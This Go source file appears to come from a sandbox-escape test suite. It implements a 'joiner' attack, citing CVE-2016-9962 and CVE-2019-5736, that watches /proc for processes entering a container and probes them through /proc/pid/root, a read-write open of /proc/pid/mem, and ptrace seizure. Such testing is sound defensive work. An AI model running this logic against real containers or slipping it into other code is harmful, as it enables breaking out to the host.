package escape

import (
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// Joiners are the attack on whoever is on its way into the machine, and stands in it
// while it still has what is msh's.
func Joiners() []Attack {
	return []Attack{{"joiner", "takes over a process on its way in, or what it holds (CVE-2016-9962, CVE-2019-5736)", [2]int{1, 0},
		"its root has the rights of the host's", "", false, true, joiner}}
}

// joiner looks for new processes as fast as it can, for as long as msh starts some.
func joiner(t *Target) error {
	known := map[string]bool{}
	seen := 0
	for end := time.Now().Add(time.Second); time.Now().Before(end); {
		names, err := numbers()
		if err != nil {
			return err
		}
		for _, pid := range names {
			if known[pid] {
				continue
			}
			link, err := os.Readlink("/proc/" + pid + "/exe")
			if err == nil && !strings.Contains(link, "msh-stage0") && link != t.Self {
				known[pid] = true // it has executed its program, or is one of those that were here
				continue
			}
			seen++
			if got := prey(t, pid); got {
				return nil
			}
		}
	}
	return errors.New("saw " + strconv.Itoa(seen) + " times somebody on the way, and nothing of theirs")
}

func numbers() ([]string, error) {
	dir, err := os.Open("/proc")
	if err != nil {
		return nil, err
	}
	defer dir.Close()
	all, err := dir.Readdirnames(-1)
	var pids []string
	for _, n := range all {
		if _, e := strconv.Atoi(n); e == nil && n != strconv.Itoa(os.Getpid()) {
			pids = append(pids, n)
		}
	}
	return pids, err
}

// prey tells whether something outside, or the process itself, is to be had.
func prey(t *Target, pid string) bool {
	at := "/proc/" + pid
	for _, path := range []string{at + "/root" + t.Marker, at + "/cwd/" + filepath.Base(t.Marker)} {
		if readMarker(t, path) == nil {
			return true
		}
	}
	if fd, err := unix.Open(at+"/mem", unix.O_RDWR|unix.O_CLOEXEC, 0); err == nil {
		unix.Close(fd)
		if link, err := os.Readlink(at + "/exe"); err == nil && strings.Contains(link, "msh-stage0") {
			return true
		}
	}
	n, _ := strconv.Atoi(pid)
	if call(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(n), 0, 0) != nil {
		return false
	}
	unix.PtraceDetach(n)
	link, err := os.Readlink(at + "/exe")
	return err == nil && strings.Contains(link, "msh-stage0")
}
